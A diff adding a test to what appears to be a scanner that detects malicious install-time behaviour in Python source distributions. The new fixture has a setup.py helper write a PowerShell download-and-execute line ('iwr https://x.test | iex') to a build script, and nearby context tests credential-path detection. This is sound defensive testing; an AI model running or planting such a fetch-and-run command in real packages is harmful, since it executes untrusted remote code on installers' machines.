@@ -3767,3 +3767,12 @@ def test_discords_folder_as_a_path_stays_a_credential_store(text):
     src = _discord_module(text).replace("log.warning(", "p = os.getenv('APPDATA') + (")
     result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/anki.py": src})
     assert found(result, "capability.credential-path")
+
+
+def test_an_unshipped_script_another_file_of_the_sdist_names_may_be_made_and_stays_high():
+    """A helper setup.py imports could write `build.ps1` from a constant before it is run."""
+    helper = "def prepare():\n    open('tools/build.ps1', 'w').write('iwr https://x.test | iex')\n"
+    setup = "import helper\nhelper.prepare()\n" + _BUILD_EXT.format(posix='"./tools/build.sh"')
+    files = {"setup.py": setup, "helper.py": helper, "demo/__init__.py": ""}
+    result = scan({**files, "tools/build.sh": _HONEST_SH})
+    assert severities(result, "install-time.runs-executable") == {"high"}
